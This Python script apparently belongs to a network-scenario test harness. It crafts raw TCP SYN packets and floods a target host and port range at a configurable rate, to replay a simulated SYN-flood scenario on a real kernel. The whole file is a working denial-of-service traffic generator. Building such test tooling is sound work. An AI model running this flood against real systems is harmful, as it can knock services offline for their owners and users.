#!/usr/bin/env python3
# A scenario's SYN flood on the real kernel, as src/scenarios/engine/flood-process.ts: --count SYNs
# from a raw socket, the source port cycling fastest through --from-ports, then the destination
# port through --ports, the i-th with seq (i+1) * 2654435761 mod 2^32, starting at --at seconds
# after time 0, at most --rate per second (as fast as it can without one).
import argparse
import socket
import struct
import time

from common import Clock, log


def csum(data):
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--t0", type=float, required=True)
    ap.add_argument("--to", required=True)
    ap.add_argument("--ports", required=True, help="low-high")
    ap.add_argument("--from-ports", dest="from_ports", required=True, help="low-high")
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--at", type=float, default=0.0)
    ap.add_argument("--rate", type=float)
    a = ap.parse_args()
    clock = Clock(a.t0)
    plo, phi = map(int, a.ports.split("-"))
    flo, fhi = map(int, a.from_ports.split("-"))
    n, m = fhi - flo + 1, phi - plo + 1
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((a.to, 9))
    src = probe.getsockname()[0]
    probe.close()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s_src, s_dst = socket.inet_aton(src), socket.inet_aton(a.to)
    log("ready")
    time.sleep(clock.until(a.at))
    for i in range(a.count):
        if a.rate:
            d = clock.until(a.at + i / a.rate)
            if d > 0.001:
                time.sleep(d)
        sport, dport, seq = flo + i % n, plo + (i // n) % m, ((i + 1) * 2654435761) & 0xFFFFFFFF
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
        c = csum(s_src + s_dst + struct.pack("!BBH", 0, 6, 20) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, s_src, s_dst)
        raw.sendto(ip + tcp, (a.to, 0))
    log("flood-done", sent=a.count)


if __name__ == "__main__":
    main()
